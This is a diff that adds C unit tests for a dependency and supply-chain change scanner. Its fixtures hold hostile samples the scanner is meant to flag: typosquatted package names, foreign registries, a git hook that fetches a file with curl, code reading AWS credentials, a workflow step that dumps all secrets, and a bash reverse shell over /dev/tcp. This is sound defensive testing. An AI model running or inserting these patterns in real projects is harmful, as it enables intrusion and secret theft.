@@ -170,6 +170,176 @@ static void what_code_can_do_is_told_once(void **state)
 	check("a.py", "import socket\n", "import requests\n", SCAN_RULES);
 }
 
+/* What is told beside the dependency itself, if anything. */
+static void dependencies_are_judged(void **state)
+{
+	static const struct {
+		const char *name, *before, *after;
+		uint32_t rule;
+	} rows[] = {
+	        {"package.json", "{}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{\"devDependencies\": {\"lodash\": \"^3\"}}", "{\"dependencies\": {\"lodash\": \"^4\"}}", SCAN_RULES},
+	        {"package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"crossenv\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"@typess/node\": \"1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"npm:lodahs@1\"}}", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"package.json", "{}", "{\"dependencies\": {\"preact\": \"1\", \"enquirer\": \"1\", \"@types/x\": \"1\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"github:a/b#c\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"a/b\"}}", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"package.json", "{}", "{\"dependencies\": {\"x\": \"file:../b\", \"y\": \"workspace:*\", \"z\": \"1.x || >=2.5.0\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{\"dependencies\": {\"x\": \"github:a/b#1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
+	                SCAN_RULES},
+	        {"package.json", "{\"dependencies\": {\"x\": \"1\"}}", "{\"dependencies\": {\"x\": \"github:a/b#2\"}}",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"tests/fixtures/package.json", "{}", "{\"dependencies\": {\"lodahs\": \"^4\"}}", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"node setup_bun.js\"}}", SCAN_RULE_CHANGE_INSTALL},
+	        {"package.json", "{}", "{\"scripts\": {\"postinstall\": \"patch-package\"}}", SCAN_RULE_CHANGE_INSTALL_NOTE},
+	        {"package.json", "{}", "{\"scripts\": {\"test\": \"node a.js\"}}", SCAN_RULES},
+	        {"requirements.txt", "", "requests==2 # x\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"requirements-dev.txt", "", "reqeusts>=2\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"requirements.txt", "", "python_dateutil\nPyYAML\nboto\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"requirements.txt", "", "-e git+https://h.example/a/b.git@c#egg=b\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"requirements.txt", "", "b @ https://h.example/b.whl\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"requirements.txt", "", "--extra-index-url https://h.example/simple\n", SCAN_RULE_CHANGE_INDEX},
+	        {"requirements.txt", "", "--index-url https://pypi.org/simple\n", SCAN_RULES},
+	        {".npmrc", "", "registry=https://h.example/\n", SCAN_RULE_CHANGE_INDEX},
+	        {"pyproject.toml", "", "[project]\ndependencies = [\"djagno>=4\"]\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"pyproject.toml", "", "[tool.poetry.dependencies]\npython = \"3\"\nx = {git = \"https://h.example/x\"}\n",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"Cargo.toml", "", "[dependencies]\nserde = \"1\"\nx = {path = \"../x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"Cargo.toml", "", "[dependencies]\nx = {git = \"https://h.example/x\"}\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"Cargo.toml", "", "[dependencies]\nserd_ejson = \"1\"\ntokoi = \"1\"\n", SCAN_RULE_CHANGE_LOOKALIKE},
+	        {"Cargo.lock", "", "[[package]]\nname = \"x\"\nsource = \"git+https://h.example/x?rev=1#2\"\n",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"go.mod", "module m\n", "module m\nrequire (\n\ta.example/b v1.0.0 // indirect\n)\n", SCAN_RULE_CHANGE_DEPENDENCY},
+	        {"go.mod", "module m\n", "module m\nreplace a.example/b => c.example/b v1.0.0\n", SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	        {"go.mod", "module m\n", "module m\nreplace (\n\ta.example/b => ../b\n\tc.example/d => c.example/d v2.0.0\n)\n",
+	                SCAN_RULES},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct seen s = changed(rows[i].name, rows[i].before, rows[i].after);
+		struct scan_rule_set others = s.rules;
+		others.bits[SCAN_RULE_CHANGE_DEPENDENCY / 8] &= (uint8_t) ~(1u << SCAN_RULE_CHANGE_DEPENDENCY % 8);
+		bool only = rows[i].rule == SCAN_RULES ? s.n == 0 : scan_rule_in(&s.rules, rows[i].rule);
+		for (uint32_t k = 0; k < SCAN_RULES; k++)
+			only &= k == rows[i].rule || !scan_rule_in(&others, k);
+		if (!only)
+			fail_msg("%s: %s", rows[i].name, rows[i].after);
+	}
+}
+
+#define LOCKED(name, at, more) "\"node_modules/" name "\": {\"version\": \"1\", \"resolved\": \"https://" at "\"" more "}"
+#define DIGEST                 ", \"integrity\": \"sha512-x\""
+static void lock_files_are_judged(void **state)
+{
+	static const struct {
+		const char *entry;
+		uint32_t rule;
+	} rows[] = {
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("@e/d", "r.example/@e/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("@e/d", "r.example/@e%2fd/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("x/node_modules/d", "r.example/d/-/d-1.tgz", DIGEST), SCAN_RULES},
+	        {LOCKED("d", "r.example/evil/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK_NAME},
+	        {LOCKED("d", "r.example/evil/-/evil-1.tgz", DIGEST ", \"name\": \"evil\""), SCAN_RULES},
+	        {LOCKED("d", "other.example/d/-/d-1.tgz", DIGEST), SCAN_RULE_CHANGE_LOCK},
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", ""), SCAN_RULE_CHANGE_LOCK},
+	        {LOCKED("d", "r.example/d/-/d-1.tgz", DIGEST ", \"hasInstallScript\": true"), SCAN_RULE_CHANGE_INSTALL_NOTE},
+	        {"\"node_modules/d\": {\"version\": \"1\", \"resolved\": \"git+ssh://git@r.example/a/d.git#1\"}",
+	                SCAN_RULE_CHANGE_DEPENDENCY_URL},
+	};
+	char text[2000];
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		(void)snprintf(text, sizeof(text), "{\"lockfileVersion\": 3, \"packages\": {\"\": {}, %s, %s, %s, %s}}",
+		        LOCKED("a", "r.example/a/-/a-1.tgz", DIGEST), LOCKED("b", "r.example/b/-/b-1.tgz", DIGEST),
+		        LOCKED("c", "r.example/c/-/c-1.tgz", DIGEST), rows[i].entry);
+		check("package-lock.json", "{}", text, rows[i].rule);
+		check("package-lock.json", text, text, SCAN_RULES);
+	}
+#define YARN(name, url) "\"" name "@^1\":\n  version \"1\"\n  resolved \"https://" url "#abc\"\n  integrity sha512-x\n\n"
+#define THREE           YARN("a", "r.example/a/-/a-1.tgz") YARN("@b/c", "r.example/@b/c/-/c-1.tgz") YARN("d", "r.example/d/-/d-1.tgz")
+	check("yarn.lock", "", THREE, SCAN_RULES);
+	check("yarn.lock", "", THREE YARN("e", "r.example/evil/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK_NAME);
+	check("yarn.lock", "", THREE YARN("e", "other.example/e/-/e-1.tgz"), SCAN_RULE_CHANGE_LOCK);
+}
+
+#define WORKFLOW(on, step) "on: " on "\njobs:\n  a:\n    steps:\n      - " step "\n"
+static void what_runs_by_itself_is_judged(void **state)
+{
+	static const struct {
+		const char *name, *text;
+		uint32_t rule;
+	} rows[] = {
+	        {".husky/pre-commit", "npm test\n", SCAN_RULE_CHANGE_ADDS_HOOK},
+	        {".husky/pre-commit", "curl -s https://h.example/x -o x\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {".envrc", "use nix\n", SCAN_RULE_CHANGE_ADDS_HOOK},
+	        {"src/pre-commit", "npm test\n", SCAN_RULES},
+	        {"sitecustomize.py", "x = 1\n", SCAN_RULE_CHANGE_STARTUP},
+	        {"a.pth", "/usr/lib/x\n", SCAN_RULES},
+	        {"a.pth", "import x\n", SCAN_RULE_CHANGE_STARTUP},
+	        {"setup.py", "import setuptools\nimport urllib.request\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {"build.rs", "use std::net::TcpStream;\n", SCAN_RULE_CHANGE_DEFERRED},
+	        {"src/a.py", "import requests\np = h + '/.aws/credentials'\n", SCAN_RULE_CHANGE_REACHES},
+	        {".github/workflows/a.yml", WORKFLOW("pull_request_target", "uses: actions/checkout@v4"), SCAN_RULES},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("pull_request_target",
+	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
+	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("[push, pull_request_target]", "uses: actions/checkout@v4\n        with: {ref: refs/pull/1/merge}"),
+	                SCAN_RULE_CHANGE_WORKFLOW_HEAD},
+	        {".github/workflows/a.yml",
+	                WORKFLOW("pull_request",
+	                        "uses: actions/checkout@v4\n        with: {ref: \"${{ github.event.pull_request.head.sha }}\"}"),
+	                SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("issues", "run: echo \"${{ github.event.issue.title }}\""),
+	                SCAN_RULE_CHANGE_WORKFLOW_TEXT},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo ${{ github.sha }} ${{ github.event.number }}"), SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("push", "env: {A: \"${{ github.event.issue.title }}\"}"), SCAN_RULES},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: echo '${{ toJSON(secrets) }}' >x"), SCAN_RULE_CHANGE_WORKFLOW_SECRETS},
+	        {".github/workflows/a.yml", WORKFLOW("push", "run: bash -i >& /dev/tcp/192.0.2.1/4 0>&1"), SCAN_RULE_CODE_COMMAND},
+	        {".github/workflows/a.yml", WORKFLOW("push", "uses: a/b@v1"), SCAN_RULE_CHANGE_DEPENDENCY},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct seen s = changed(rows[i].name, NULL, rows[i].text);
+		if (rows[i].rule == SCAN_RULES ? s.n > 0 : !scan_rule_in(&s.rules, rows[i].rule))
+			fail_msg("%s: %s", rows[i].name, rows[i].text);
+	}
+}
+
+static void what_cannot_be_read_is_told(void **state)
+{
+	static const struct {
+		struct slice bytes;
+		const char *name;
+		uint32_t rule;
+	} rows[] = {
+	        {SLICE_INIT("\177ELF\2\1\1\0"), "bin/tool", SCAN_RULE_CHANGE_PROGRAM},
+	        {SLICE_INIT("\0asm\1\0\0\0"), "a.wasm", SCAN_RULE_CHANGE_PROGRAM},
+	        {SLICE_INIT("\177ELF\2\1\1\0"), "tests/data/tool", SCAN_RULE_CHANGE_ADDS_BINARY},
+	        {SLICE_INIT("\x89PNG\r\n\x1a\n"), "a.png", SCAN_RULES},
+	        {SLICE_INIT("\1\2\3\0\xff"), "a.dat", SCAN_RULE_CHANGE_ADDS_BINARY},
+	};
+	const struct scan_options o = {.subjects = SCAN_CHANGES, .limits = scan_limits_default()};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct scan_summary sum;
+		struct seen s = {0};
+		assert_int_equal(scan_changed(rows[i].bytes, NULL, rows[i].name, &o, on_found, &s, &sum), 0);
+		if (rows[i].rule == SCAN_RULES ? scan_rule_in(&s.rules, SCAN_RULE_CHANGE_ADDS_BINARY)
+		                               : !scan_rule_in(&s.rules, rows[i].rule))
+			fail_msg("%s", rows[i].name);
+		/* What was one before is no news. */
+		assert_int_equal(scan_changed(rows[i].bytes, &rows[i].bytes, rows[i].name, &o, NULL, NULL, &sum), 0);
+		assert_true(sum.notes == 0 && sum.verdict < SCAN_SUSPICIOUS);
+	}
+}
+
 /* Without a base nothing of this is said, whatever is asked for. */
 static void whole_trees_are_not_judged(void **state)
 {
@@ -199,6 +369,10 @@ int main(void)
 	        cmocka_unit_test(others_are_not),
 	        cmocka_unit_test(only_what_is_new_is_told),
 	        cmocka_unit_test(what_code_can_do_is_told_once),
+	        cmocka_unit_test(dependencies_are_judged),
+	        cmocka_unit_test(lock_files_are_judged),
+	        cmocka_unit_test(what_runs_by_itself_is_judged),
+	        cmocka_unit_test(what_cannot_be_read_is_told),
 	        cmocka_unit_test(whole_trees_are_not_judged),
 	        cmocka_unit_test(what_is_too_large_is_unscanned),
 	};
